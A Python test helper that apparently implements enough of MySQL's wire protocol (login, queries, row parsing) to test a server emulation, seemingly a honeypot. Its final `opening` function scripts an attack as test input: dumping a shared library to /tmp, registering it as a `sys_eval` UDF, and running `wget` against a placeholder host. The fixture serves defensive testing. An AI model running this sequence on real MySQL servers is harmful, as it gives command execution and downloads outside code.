"""As much of MySQL's protocol as a test needs to talk to the room itself."""

from __future__ import annotations

import struct

from eudaemon.protocols.mysql.packets import WITH_DB, packets, prefixed
from eudaemon.protocols.mysql.secrets import native_proof
from eudaemon.testing.script import Table

CAPABILITIES = 0x000FA685 | 0x10000  # what PyMySQL says, with several statements at once


def salt_of(greeting: bytes) -> bytes:
    """Return the salt of a greeting, packet and all."""
    at = greeting.index(b"\0", 5) + 5
    return greeting[at : at + 8] + greeting[at + 27 : at + 39]


def login(greeting: bytes, user: bytes = b"root", password: bytes = b"root", database: bytes = b"") -> bytes:
    """Return the packet of a login by mysql_native_password."""
    proof = native_proof(password, salt_of(greeting))
    capabilities = CAPABILITIES | (WITH_DB if database else 0)
    body = struct.pack("<IIB", capabilities, 1 << 24, 33) + bytes(23) + user + b"\0" + prefixed(proof)
    return packets([body + (database + b"\0" if database else b"") + b"mysql_native_password\0"], 1)


def query(sql: bytes) -> bytes:
    """Return the packets of a COM_QUERY."""
    return command(b"\x03" + sql)


def command(body: bytes) -> bytes:
    """Return a command's packets, of which the last is shorter than the largest."""
    pieces = [body[at : at + 0xFFFFFF] for at in range(0, len(body), 0xFFFFFF)] or [b""]
    if len(pieces[-1]) == 0xFFFFFF:
        pieces.append(b"")
    return packets(pieces, 0)


def payloads(data: bytes) -> list[bytes]:
    """Return the payloads of what was answered."""
    found, at = [], 0
    while at < len(data):
        size = int.from_bytes(data[at : at + 3], "little")
        found.append(data[at + 4 : at + 4 + size])
        at += 4 + size
    return found


def rows(data: bytes) -> list[list[bytes | None]]:
    """Return the rows of an answer with short values; raises `AssertionError` for an error."""
    found = payloads(data)
    assert found[0][:1] != b"\xff", found[0]
    result: list[list[bytes | None]] = []
    for payload in found[2 + found[0][0] :]:
        if payload[:1] == b"\xfe" and len(payload) < 9:
            break
        row: list[bytes | None] = []
        at = 0
        while at < len(payload):
            if payload[at] == 0xFB:
                row.append(None)
                at += 1
                continue
            size, head = (
                (payload[at], 1) if payload[at] < 0xFB else (int.from_bytes(payload[at + 1 : at + 3], "little"), 3)
            )
            row.append(payload[at + head : at + head + size])
            at += head + size
        result.append(row)
    return result


class Client:
    """A client that has logged in."""

    def __init__(self, table: Table) -> None:
        self.table = table
        answer = table.say(login(table.sent))
        assert payloads(answer)[0][:1] == b"\0", answer

    def do(self, sql: bytes) -> bytes:
        """Send one query in pieces; return what is answered."""
        data, before = query(sql), len(self.table.sent)
        for at in range(0, len(data), 65_537):
            self.table.say(data[at : at + 65_537])
        return self.table.sent[before:]

    def rows(self, sql: bytes) -> list[list[bytes | None]]:
        """Return the rows that a query gives."""
        return rows(self.do(sql))

    def error(self, sql: bytes) -> bytes:
        """Return the text of the error that a query gives."""
        answer = payloads(self.do(sql))[-1]
        assert answer[:1] == b"\xff", answer
        return answer[9:]


def opening(table: Table) -> list[bytes]:
    """Return what leads through a session, in pieces that end where a new stage begins."""
    udf = b"select 0x7f into dumpfile '/tmp/x.so'; create function sys_eval returns string soname 'x.so'"
    return [login(table.sent), query(b"create database d; use d; create table t(a blob)")[:20],
            query(b"create database d; use d; create table t(a blob)")[20:],
            query(b"insert into t values (repeat('a', 3000))"), query(udf),
            query(b"select sys_eval('wget http://a/b')")]  # fmt: skip
